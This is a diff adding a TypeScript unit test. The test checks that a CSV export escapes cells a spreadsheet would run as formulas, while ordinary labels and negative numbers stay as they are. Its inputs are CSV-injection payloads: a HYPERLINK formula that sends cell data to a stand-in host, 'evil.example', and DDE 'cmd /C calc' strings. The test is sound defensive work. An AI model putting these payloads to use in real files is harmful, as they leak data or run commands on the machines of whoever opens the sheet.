@@ -66,4 +66,18 @@ test('CSV has one line per interval row, fields as in the JSON', () => {
   assert.is(lines[a.intervals.length + 1]!.split(',').pop(), '', 'no e2e: empty column');
 });
 
+test('CSV cells a spreadsheet would run as a formula (= + - @ first) are text; numbers, negative ones too, stay numbers', () => {
+  const run = fakeRunResult();
+  run.intervals = [{ ...run.intervals[0]!, loopLagP99Ms: -1.5 }];
+  const cellsOf = (label: string): string[] => intervalsCsv([{ label, file: 'x.json', run }]).split('\r\n')[1]!.split(',');
+  assert.is(cellsOf('=HYPERLINK("http://evil.example/?"&A1)')[0], '"\'=HYPERLINK(""http://evil.example/?""&A1)"');
+  assert.is(cellsOf('+cmd|\' /C calc\'!A0')[0], "'+cmd|' /C calc'!A0");
+  assert.is(cellsOf('-2+3+cmd|\' /C calc\'!A0')[0], "'-2+3+cmd|' /C calc'!A0");
+  assert.is(cellsOf('@SUM(1+1)*cmd|\' /C calc\'!A0')[0], "'@SUM(1+1)*cmd|' /C calc'!A0");
+  assert.is(cellsOf('\t=1+1')[0], "'\t=1+1");
+  assert.is(cellsOf('run-2026-12-05')[0], 'run-2026-12-05', 'an ordinary label is as it was');
+  const header = intervalsCsv([]).split('\r\n')[0]!.split(',');
+  assert.is(cellsOf('a')[header.indexOf('loopLagP99Ms')], '-1.5', 'a negative number is a number');
+});
+
 test.run();
